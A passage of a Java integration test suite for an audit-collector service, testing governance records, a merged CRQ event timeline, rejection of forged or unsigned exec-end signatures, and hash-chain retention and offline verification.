                new RepoPolicyChanged(
                        repo,
                        new RepoPolicyChanged.PolicyRules(List.of("feature"), List.of("main"), true, "service", null),
                        new RepoPolicyChanged.PolicyRules(
                                List.of("feature"), List.of("main"), false, "repository", null),
                        BASE.plusSeconds(4))));
        awaitTotal("repo=" + repo, 4);
        Map<String, Object> policy = as("alice")
                .get("/audit?kind=governance&host=gitcrq/git-watcher&repo=" + repo)
                .then()
                .statusCode(200)
                .body("total", equalTo(2))
                .extract()
                .jsonPath()
                .getMap("items[0].payload");
        assertThat(policy)
                .containsEntry("rule", "repo-policy")
                .containsEntry("changedBy", "the git config of " + repo)
                .extractingByKeys("before", "after")
                .satisfiesExactly(
                        before -> assertThat(before).asString().contains("requireLinkedCommits=true"),
                        after -> assertThat(after).asString().contains("requireLinkedCommits=false"));
        // Watching it stopped: the end of its checks, with who.
        publish(event("gitcrq/git-watcher", BASE, new RepoUnwatched(repo, "admin", BASE.plusSeconds(5))));
        awaitTotal("repo=" + repo, 5);
        Map<String, Object> unwatched = as("alice")
                .get("/audit?kind=governance&host=gitcrq/git-watcher&repo=" + repo)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getMap("items[0].payload");
        assertThat(unwatched)
                .containsEntry("rule", "watch")
                .containsEntry("changedBy", "admin")
                .containsEntry("after", Map.of("watched", false));
        as("alice")
                .get("/audit/verify?host=gitcrq/git-watcher")
                .then()
                .statusCode(200)
                .body("ok", equalTo(true));
    }

    // ---------------------------------------------------------------- timeline

    @Test
    void aCrqsTimelineMergesItsGitCrqMergeExecAndAuditEventsInTimeOrder() {
        String crq = freshCrq();
        String other = freshCrq();
        String repo = "webapp-" + UUID.randomUUID().toString().substring(0, 8);
        String host = "build-" + UUID.randomUUID().toString().substring(0, 8);
        String branch = "feature/" + crq + "-login";
        GitPerson alice = new GitPerson("Alice", "alice@example.org", BASE);

        CloudEvent created =
                event("crq-service", BASE, new CrqCreated(crq, "Fix login", "details", "alice", repo, "main", BASE));
        CloudEvent branchCreated = event(
                "git-watcher",
                BASE.plusSeconds(60),
                new BranchCreated(repo, branch, "abc1234def5678", List.of(crq), true));
        CloudEvent commit = event(
                "git-watcher",
                BASE.plusSeconds(120),
                new CommitPushed(
                        repo,
                        branch,
                        "1a2b3c4d5e6f",
                        List.of("abc1234def5678"),
                        alice,
                        alice,
                        "Fix login\n\nThe session expired too early.",
                        List.of(crq.toLowerCase(Locale.ROOT), other)));
        CloudEvent requested = event(
                "crq-service",
                BASE.plusSeconds(180),
                new ExecRequested("x-1", host, "dev", "0", "mvn -q test", crq, branch, "/src", "alice"));
        registerHostKey(host); // an exec's end is shown only signed with its host's registered key
        CloudEvent finished = event(
                "exec-agent/" + host,
                BASE.plusSeconds(400),
                AuditSignature.signExecFinished(
                        new ExecFinished(
                                "x-1",
                                host,
                                crq,
                                "dev",
                                "0",
                                0,
                                BASE.plusSeconds(181),
                                BASE.plusSeconds(210),
                                "/logs/x-1.log",
                                "ab".repeat(32)),
                        HOST_KEY.getPrivate(),
                        keyId(HOST_KEY)));
        CloudEvent submitted = event(
                "crq-service",
                BASE.plusSeconds(240),
                new CrqStatusChanged(crq, "DRAFT", "SUBMITTED", "alice", null, BASE.plusSeconds(240)));
        CloudEvent approved = event(
                "crq-service",
                BASE.plusSeconds(300),
                new CrqApproved(crq, "bob", "alice", repo, "main", BASE.plusSeconds(300)));
        CloudEvent waiting = event(
                "merge-bot",
                BASE.plusSeconds(310),
                new MergeWaiting(crq, repo, "waiting for checks: build on 1a2b3c4", BASE.plusSeconds(310)));
        CloudEvent merged = event(
                "merge-bot",
                BASE.plusSeconds(500),
                new BranchMerged(crq, repo, branch, "main", "9f8e7d6c5b4a", BASE.plusSeconds(360)));
        // Sent out of time order, one twice; and events naming no CRQ, which no timeline shows.
        for (CloudEvent e : List.of(
                merged, approved, commit, finished, created, waiting, submitted, requested, branchCreated, approved)) {
            publish(e);
        }
        publish(event(
                "git-watcher",
                BASE,
                new CommitPushed(
                        repo,
                        "main",
                        "0000aaa",
                        List.of(),
                        alice,
                        alice,
                        "unlinked " + crq.toLowerCase(Locale.ROOT) + "x",
                        List.of())));
        publish(event("ci", BASE, new CheckReported(repo, "1a2b3c4d5e6f", "build", "SUCCESS", null, "ci", BASE)));
        CloudEvent audit = send(
                host,
                crq,
                "exec",
                BASE.plusSeconds(200),
                EventCodec.mapper()
                        .createObjectNode()
                        .put("command", "mvn -q test")
                        .put("exitCode", 0));
        // A CRQ event naming no valid CRQ is dead-lettered, like an unreadable audit record.
        CloudEvent bad = event("crq-service", BASE, new CrqCreated("nonsense", "x", null, "alice", repo, "main", BASE));
        publish(bad);

        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit/timeline?crq=" + crq)
                        .then()
                        .statusCode(200)
                        .body("total", equalTo(10)));
        assertWrittenAs(as("alice").get("/audit/timeline?crq=" + crq).asString(), TimelinePage.class);
        JsonPath timeline = as("bob")
                .get("/audit/timeline?crq=" + crq.toLowerCase(Locale.ROOT))
                .then()
                .statusCode(200)
                .body("crqId", equalTo(crq))
                .extract()
                .jsonPath();
        assertThat(timeline.getList("entries.eventId"))
                .containsExactly(
                        created.id(),
                        branchCreated.id(),
                        commit.id(),
                        requested.id(),
                        audit.id(),
                        finished.id(),
                        submitted.id(),
                        approved.id(),
                        waiting.id(),
                        merged.id());
        assertThat(timeline.getList("entries.source"))
                .containsExactly("crq", "git", "git", "exec", "audit", "exec", "crq", "crq", "merge", "merge");
        assertThat(timeline.getList("entries.type"))
                .containsExactly(
                        "CrqCreated",
                        "BranchCreated",
                        "CommitPushed",
                        "ExecRequested",
                        "AuditCaptured",
                        "ExecFinished",
                        "CrqStatusChanged",
                        "CrqApproved",
                        "MergeWaiting",
                        "BranchMerged");
        assertThat(timeline.getList("entries.summary"))
                .containsExactly(
                        "created by alice: Fix login (" + repo + " → main)",
                        "branch " + branch + " created in " + repo + " at abc1234",
                        "commit 1a2b3c4 pushed to " + repo + ":" + branch + " by Alice: Fix login",
                        "alice asked to run `mvn -q test` on " + host + " (dev:0, exec x-1)",
                        "exec on " + host + ": mvn -q test (exit 0)",
                        "exec x-1 on " + host + " ended with exit code 0",
                        "DRAFT → SUBMITTED by alice",
                        "approved by bob for " + repo + ":main",
                        "merge waiting: waiting for checks: build on 1a2b3c4",
                        branch + " merged into " + repo + ":main as 9f8e7d6");
        assertThat(timeline.getList("entries.at"))
                .containsExactly(
                        "2024-05-01T10:00:00Z",
                        "2024-05-01T10:01:00Z",
                        "2024-05-01T10:02:00Z",
                        "2024-05-01T10:03:00Z",
                        "2024-05-01T10:03:20Z",
                        "2024-05-01T10:03:30Z",
                        "2024-05-01T10:04:00Z",
                        "2024-05-01T10:05:00Z",
                        "2024-05-01T10:05:10Z",
                        "2024-05-01T10:06:00Z");
        as("alice")
                .get("/audit/timeline?crq=" + crq + "&page=1&size=3")
                .then()
                .statusCode(200)
                .body("entries.eventId", equalTo(List.of(requested.id(), audit.id(), finished.id())))
                .body("page", equalTo(1))
                .body("size", equalTo(3))
                .body("total", equalTo(10));

        // The commit names the other CRQ too: it is on that timeline, alone.
        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit/timeline?crq=" + other)
                        .then()
                        .statusCode(200)
                        .body("total", equalTo(1))
                        .body("entries[0].eventId", equalTo(commit.id())));
        assertThat(count("SELECT count(*) FROM timeline_entry WHERE event_id = '" + approved.id() + "'"))
                .isEqualTo(1);
        operator.await(Topics.deadLetter("audit-collector"), v -> v.contains(bad.id()), WAIT);
    }

    /**
     * Any exec-agent host may write the exec topic: an exec's end claiming host B is shown in the CRQ's timeline only
     * signed with B's registered key. Signed with host A's key, unsigned, or with a field changed after signing, it is
     * refused, counted, recorded on audit-collector's own trail and dead-lettered.
     */
    @Test
    void anExecsEndIsShownOnlyWithItsHostsSignatureAndAForgedOneIsRefusedAndRecorded() {
        String crq = freshCrq();
        String hostA = "end-a-" + UUID.randomUUID().toString().substring(0, 8);
        String hostB = "end-b-" + UUID.randomUUID().toString().substring(0, 8);
        KeyPair keyA = Ed25519.generate();
        register(hostA, keyA);
        registerHostKey(hostB);
        Scrape before = scrape();

        ExecFinished real =
                AuditSignature.signExecFinished(end("x-real", hostB, crq, 0), HOST_KEY.getPrivate(), keyId(HOST_KEY));
        ExecFinished forged =
                AuditSignature.signExecFinished(end("x-forged", hostB, crq, 0), keyA.getPrivate(), keyId(keyA));
        ExecFinished unsigned = end("x-unsigned", hostB, crq, 0);
        // Signed as ending with exit code 1, published as ending with 0.
        ExecFinished signedForExitCode1 = AuditSignature.signExecFinished(
                end("x-changed", hostB, crq, 1), HOST_KEY.getPrivate(), keyId(HOST_KEY));
        ExecFinished signedThenChanged =
                end("x-changed", hostB, crq, 0).signed(signedForExitCode1.keyId(), signedForExitCode1.signature());
        CloudEvent forgedEvent = publish(event("exec-agent/" + hostA, BASE.plusSeconds(1), forged));
        CloudEvent unsignedEvent = publish(event("exec-agent/" + hostA, BASE.plusSeconds(2), unsigned));
        CloudEvent changedEvent = publish(event("exec-agent/" + hostA, BASE.plusSeconds(3), signedThenChanged));
        CloudEvent realEvent = publish(event("exec-agent/" + hostB, BASE.plusSeconds(4), real));

        await().atMost(WAIT)
                .untilAsserted(() -> as("alice")
                        .get("/audit/timeline?crq=" + crq)
                        .then()
                        .statusCode(200)
                        .body("entries.eventId", hasItem(realEvent.id())));
        List<ConsumerRecord<String, String>> dead = operator.awaitAll(
                Topics.deadLetter("audit-collector"),
                v -> v.contains(forgedEvent.id()) || v.contains(unsignedEvent.id()) || v.contains(changedEvent.id()),
                3,
                WAIT);
        assertThat(dead).hasSize(3);
        assertThat(as("alice").get("/audit/timeline?crq=" + crq).jsonPath().getList("entries.eventId", String.class))
                .containsExactly(realEvent.id());

        JsonPath rejections = rejections();
        assertThat(rejections.getString("latest.find { it.eventId == '" + forgedEvent.id() + "' }.reason"))
                .contains("another host (" + hostA + ")");
        assertThat(rejections.getString("latest.find { it.eventId == '" + unsignedEvent.id() + "' }.reason"))
                .contains("not signed");
        assertThat(rejections.getString("latest.find { it.eventId == '" + changedEvent.id() + "' }.reason"))
                .contains("does not verify");
        Scrape after = scrape();
        assertRejectedMore(before, after, "foreign_key", "unsigned", "bad_signature");
        JsonPath trail = rejectedRecords();
        assertThat(trail.getMap("items.find { it.payload.eventId == '" + forgedEvent.id() + "' }.payload"))
                .containsEntry("hostClaimed", hostB)
                .containsEntry("keyId", keyId(keyA));
    }

    /** More events refused for each of {@code reasons} in {@code after} than in {@code before}. */
    private static void assertRejectedMore(Scrape before, Scrape after, String... reasons) {
        for (String reason : reasons) {
            assertThat(after.sum("gitcrq_audit_events_rejected_total", "reason", reason))
                    .as(reason)
                    .isGreaterThan(before.sum("gitcrq_audit_events_rejected_total", "reason", reason));
        }
    }

    /** The latest refused events, as an operator lists them. */
    private static JsonPath rejections() {
        return as("bob")
                .get("/audit/rejections?size=500")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
    }

    /** The records of refusals on audit-collector's own trail. */
    private static JsonPath rejectedRecords() {
        return as("alice")
                .get("/audit?host=gitcrq/audit-collector&kind=rejected&size=500")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
    }

    /** An exec's end on {@code host} for {@code crq}, not signed. */
    private static ExecFinished end(String execId, String host, String crq, int exitCode) {
        return new ExecFinished(
                execId,
                host,
                crq,
                "dev",
                "0",
                exitCode,
                BASE,
                BASE.plusSeconds(5),
                "/logs/" + execId + ".log",
                "cd".repeat(32));
    }

    // ---------------------------------------------------------------- retention

    @Test
    @SuppressWarnings("unchecked")
    void retentionDeletesTheOldStartOfAChainAndWhatStaysStillVerifies() {
        String crq = freshCrq();
        String host = "retention-" + UUID.randomUUID();
        Instant now = Instant.now();
        try {
            Instant old = now.minus(Duration.ofDays(400));
            for (int i = 0; i < 3; i++) {
                send(host, crq, "exec", old.plusSeconds(i), payload("old " + i));
            }
            awaitTotal("host=" + host, 3); // the old ones first: they are the start of the chain
            send(host, crq, "exec", now.minus(Duration.ofDays(1)), payload("recent 1"));
            awaitTotal("host=" + host, 4);
            // An old event appended after a recent one stays: retention cuts from the chain's start only.
            send(host, crq, "exec", old.minusSeconds(60), payload("late old"));
            awaitTotal("host=" + host, 5);
            List<Map<String, Object>> chain = chainOf(host);

            as("alice")
                    .post("/audit/retention?host=" + host)
                    .then()
                    .statusCode(403)
                    .contentType("application/problem+json");
            as("bob").post("/audit/retention?host=" + host).then().statusCode(403);
            as("admin")
                    .post("/audit/retention?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("retention", equalTo("P365D"))
                    .body("deleted", equalTo(3))
                    .body("hosts[0].host", equalTo(host))
                    .body("hosts[0].deleted", equalTo(3))
                    .body("hosts[0].checkpointSequence", equalTo(3))
                    .body("hosts[0].checkpointHash", equalTo(chain.get(2).get("hash")));
            awaitTotal("host=" + host, 2);
            assertThat(chainOf(host)).extracting(link -> link.get("sequence")).containsExactly(4, 5);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(2))
                    .body("checkpointSequence", equalTo(3))
                    .body("checkpointHash", equalTo(chain.get(2).get("hash")))
                    .body("lastSequence", equalTo(5));
            // Nothing more to delete now; the chain goes on from its head.
            as("admin")
                    .post("/audit/retention?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("deleted", equalTo(0))
                    .body("hosts.size()", equalTo(0));
            send(host, crq, "exec", now, payload("after retention"));
            awaitTotal("host=" + host, 3);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(3))
                    .body("lastSequence", equalTo(6));
            // The run is a governance record of audit-collector's trail: who, the checkpoint before and after.
            Map<String, Object> run = as("alice")
                    .get("/audit?host=gitcrq/audit-collector&kind=governance&size=500")
                    .then()
                    .statusCode(200)
                    .extract()
                    .jsonPath()
                    .getMap("items.find { it.payload.rule == 'retention' && it.payload.after.host == '" + host
                            + "' }.payload");
            assertThat(run).containsEntry("changedBy", "admin");
            assertThat((Map<String, Object>) run.get("after"))
                    .containsEntry("checkpointSequence", 3)
                    .containsEntry("deleted", 3);
            // The checkpoint anchors verification and carries audit-collector's signature: editing it shows.
            update("UPDATE audit_checkpoint SET hash = '" + "f".repeat(64) + "' WHERE host = '" + host + "'");
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(false))
                    .body("sequence", equalTo(3))
                    .body("reason", equalTo("checkpoint unsigned"))
                    .body("storedHash", equalTo("f".repeat(64)));
        } finally {
            forget(host);
        }
    }

    @Test
    void rowsStoredBeforeChainingAreChainedAtStartInTheOrderTheyWereReceived() {
        String crq = freshCrq();
        String host = "legacy-" + UUID.randomUUID();
        try {
            // As a store migrated from before hash chains holds them: no sequence, no hashes.
            for (int i = 0; i < 3; i++) {
                update(
                        "INSERT INTO audit_event (event_id, host, crq_id, kind, occurred_at, payload, source, received_at) "
                                + "VALUES ('legacy-" + i + "-" + host + "', '" + host + "', '" + crq + "', 'exec', "
                                + "TIMESTAMPTZ '2024-05-01 10:00:00+00' - INTERVAL '" + i + " minutes', "
                                + "'{\"command\": \"legacy " + i + "\", \"exitCode\": 1.0}', 'exec-agent/" + host
                                + "', "
                                + "TIMESTAMPTZ '2024-06-01 10:00:00+00' + INTERVAL '" + i + " seconds')");
            }
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("ok", equalTo(false))
                    .body("reason", equalTo("row not chained"))
                    .body("eventId", equalTo("legacy-0-" + host));

            backfill.run(); // what audit-collector does at start

            assertThat(chainOf(host))
                    .extracting(link -> link.get("eventId"))
                    .containsExactly("legacy-0-" + host, "legacy-1-" + host, "legacy-2-" + host);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(3));
            // New events go on from the chained ones.
            send(host, crq, "exec", BASE, payload("new"));
            awaitTotal("host=" + host, 4);
            as("alice")
                    .get("/audit/verify?host=" + host)
                    .then()
                    .body("ok", equalTo(true))
                    .body("verified", equalTo(4))
                    .body("lastSequence", equalTo(4));
        } finally {
            forget(host);
        }
    }

    @Test
    void retentionLeavesABrokenChainAlone() {
        String crq = freshCrq();
        String host = "retention-broken-" + UUID.randomUUID();
        try {
            Instant old = Instant.now().minus(Duration.ofDays(500));
            send(host, crq, "exec", old, payload("old 0"));
            send(host, crq, "exec", old.plusSeconds(1), payload("old 1"));
            awaitTotal("host=" + host, 2);
            update("UPDATE audit_event SET kind = 'edited' WHERE host = '" + host + "' AND sequence = 1");
            as("admin")
                    .post("/audit/retention?host=" + host)
                    .then()
                    .statusCode(200)
                    .body("deleted", equalTo(0))
                    .body("hosts[0].host", equalTo(host))
                    .body("hosts[0].skipped", containsString("chain broken at sequence 1: row changed"));
            assertThat(count("SELECT count(*) FROM audit_event WHERE host = '" + host + "'"))
                    .isEqualTo(2);
            assertThat(count("SELECT count(*) FROM audit_checkpoint WHERE host = '" + host + "'"))
                    .isZero();
        } finally {
            forget(host);
        }
    }

    @Test
    void badChainTimelineExportAndRetentionRequestsAnswerWithProblemBodies() {
        String unknownHost = "nobody-" + UUID.randomUUID();
        as("alice")
                .get("/audit/verify?host=" + unknownHost)
                .then()
                .statusCode(404)
                .contentType("application/problem+json")
                .body("detail", containsString(unknownHost));
        for (String query :
                List.of("", "crq=", "crq=nonsense", "crq=CRQ-1&size=0", "crq=CRQ-1&size=5001", "crq=CRQ-1&page=-1")) {
            as("alice")
                    .get("/audit/timeline" + (query.isEmpty() ? "" : "?" + query))
                    .then()
                    .statusCode(400)
                    .contentType("application/problem+json")
                    .body("status", equalTo(400))
                    .body(
                            "detail",
                            containsString(query.contains("size") ? "size" : query.contains("page") ? "page" : "crq"));
        }
        String nothing = freshCrq();
        as("alice")
                .get("/audit/timeline?crq=" + nothing)
                .then()
                .statusCode(404)
                .contentType("application/problem+json")
                .body("detail", containsString(nothing));
        for (String query : List.of(
                "",
                "kind=exec",
                "crq=nonsense",
                "host=h&from=yesterday",
                "host=h&from=2024-05-02T00:00:00Z&to=2024-05-01T00:00:00Z")) {
            as("alice")
                    .get("/audit/export" + (query.isEmpty() ? "" : "?" + query))
                    .then()
                    .statusCode(400)
                    .contentType("application/problem+json")
                    .body("status", equalTo(400));
        }
        as("alice").get("/audit/export").then().body("detail", containsString("crq, host or repo is required"));
        as("admin")
                .post("/audit/retention?host=" + unknownHost)
                .then()
                .statusCode(404)
                .contentType("application/problem+json");
        as("alice").post("/audit/retention").then().statusCode(403).body("detail", containsString("roles"));
        for (String path : List.of("/audit/verify", "/audit/timeline?crq=CRQ-1", "/audit/export?host=h")) {
            given().get(path).then().statusCode(401);
        }
        given().post("/audit/retention").then().statusCode(401);
    }

    // ---------------------------------------------------------------- helpers of the chain tests

    private void sendAll(String topic, String key, List<String> values) {
        // As a host's exec-agent, the writer of audit events.
        Map<String, Object> config = new HashMap<>(KafkaBrokerTestResource.broker()
                .clientConfig(TopicAccess.execAgentPrincipal(KafkaBrokerTestResource.EXEC_HOST)));
        config.put(ProducerConfig.KEY_SERIALIZER_CLASS_CONFIG, StringSerializer.class.getName());
        config.put(ProducerConfig.VALUE_SERIALIZER_CLASS_CONFIG, StringSerializer.class.getName());
        try (KafkaProducer<String, String> producer = new KafkaProducer<>(config)) {
            for (String value : values) {
                producer.send(new ProducerRecord<>(topic, key, value));
            }
            producer.flush();
        }
    }

    private static CloudEvent event(String source, Instant time, DomainEvent data) {
        return EventCodec.envelope(UUID.randomUUID().toString(), source, time, data);
    }

    /** On the event's own topic, keyed as its producer keys it. */
    private CloudEvent publish(CloudEvent envelope) {
        DomainEvent data = EventCodec.dataOf(envelope);
        String topic = EventType.of(data).topic();
        KafkaBrokerTestResource.probeOwning(topic).send(topic, data.partitionKey(), EventCodec.toJson(envelope));
        return envelope;
    }

    /** A host's chain as GET /audit shows it, by sequence. */
    private static List<Map<String, Object>> chainOf(String host) {
        List<Map<String, Object>> items = new ArrayList<>(as("alice")
                .get("/audit?size=500&host=" + host)
                .then()
                .statusCode(200)
                .extract()
                .jsonPath()
                .getList("items"));
        items.sort((a, b) ->
                Long.compare(((Number) a.get("sequence")).longValue(), ((Number) b.get("sequence")).longValue()));
        return items;
    }

    /** Removes a host's chain entirely, so that verifying every host is not broken by a test's tampering. */
    private void forget(String host) {
        update("DELETE FROM audit_event WHERE host = '" + host + "'");
        update("DELETE FROM audit_chain_head WHERE host = '" + host + "'");
        update("DELETE FROM audit_checkpoint WHERE host = '" + host + "'");
        update("DELETE FROM audit_signed_head WHERE host = '" + host + "'");
    }

    // An auditor's check of exported lines, written here from the documented rules alone (not with the
    // service's classes): canonical JSON, then SHA-256 of prevHash followed by it.

    private static final ObjectMapper EXACT =
            new ObjectMapper().enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);

    private static List<JsonNode> jsonLines(String body) {
        List<JsonNode> lines = new ArrayList<>();
        for (String line : body.split("\n")) {
            if (!line.isEmpty()) {
                try {
                    lines.add(EXACT.readTree(line));
                } catch (Exception e) {
                    throw new AssertionError("not a JSON line: " + line, e);
                }
            }
        }
        return lines;
    }

    /** Checks consecutive lines of one host's chain; returns the last hash. */
    private static String verifyChainOffline(List<JsonNode> lines, String startHash, long startSequence) {
        String prev = startHash;
        long sequence = startSequence;
        for (JsonNode line : lines) {
            assertThat(line.get("sequence").asLong()).isEqualTo(sequence++);
            assertThat(line.get("prevHash").asText()).isEqualTo(prev);
            assertThat(offlineHash(line))
                    .as("hash of line %s", line)
                    .isEqualTo(line.get("hash").asText());
            prev = line.get("hash").asText();
        }
        return prev;
    }

    private static String offlineHash(JsonNode line) {
        ObjectNode hashed = line.deepCopy();
        hashed.remove(List.of(
                "prevHash",
                "hash",
                "source",
                "receivedAt",
                "hostSeq",
                "keyId",
                "signature",
                "batchFirstSeq",
                "batchSize",
                "batchProof"));
        try {
            MessageDigest sha = MessageDigest.getInstance("SHA-256");
            byte[] digest = sha.digest(
                    (line.get("prevHash").asText() + offlineCanonical(hashed)).getBytes(StandardCharsets.UTF_8));
            return HexFormat.of().formatHex(digest);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String offlineCanonical(JsonNode node) {
        if (node.isObject()) {
            // Keys by code point: compare the code point arrays.
            TreeMap<String, JsonNode> sorted = new TreeMap<>((a, b) ->
                    Arrays.compare(a.codePoints().toArray(), b.codePoints().toArray()));
            node.properties().forEach(field -> sorted.put(field.getKey(), field.getValue()));
            StringBuilder out = new StringBuilder("{");
            sorted.forEach((key, value) -> out.append(out.length() > 1 ? "," : "")
                    .append(offlineString(key))
                    .append(':')
                    .append(offlineCanonical(value)));
            return out.append('}').toString();
        }
        if (node.isArray()) {
            List<String> elements = new ArrayList<>();
            for (Iterator<JsonNode> it = node.elements(); it.hasNext(); ) {
                elements.add(offlineCanonical(it.next()));
            }
            return "[" + String.join(",", elements) + "]";
        }
        if (node.isTextual()) {
            return offlineString(node.textValue());
        }
        if (node.isNumber()) {
            BigDecimal value = new BigDecimal(node.asText());
            return value.compareTo(BigDecimal.ZERO) == 0
                    ? "0"
                    : value.stripTrailingZeros().toPlainString();
        }
        return node.toString(); // true, false, null
    }

    private static String offlineString(String text) {
        StringBuilder out = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            String shortEscape = switch (c) {
                case '"' -> "\\\"";
                case '\\' -> "\\\\";
                case '\b' -> "\\b";
                case '\f' -> "\\f";
                case '\n' -> "\\n";
                case '\r' -> "\\r";
                case '\t' -> "\\t";
                default -> null;
            };
            out.append(
                    shortEscape != null
                            ? shortEscape
                            : c >= ' ' && c <= '~' ? String.valueOf(c) : String.format("\\u%04x", (int) c));
        }
        return out.append('"').toString();
    }

    @Transactional
    long count(String sql) {
        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
    }

    @Transactional
    String text(String sql) {
        return (String) em.createNativeQuery(sql).getSingleResult();
    }

    @Transactional
    @SuppressWarnings("unchecked")
    List<String> texts(String sql) {
        return em.createNativeQuery(sql).getResultList();
    }

    @Transactional
    void update(String sql) {
        em.createNativeQuery(sql).executeUpdate();
    }
}
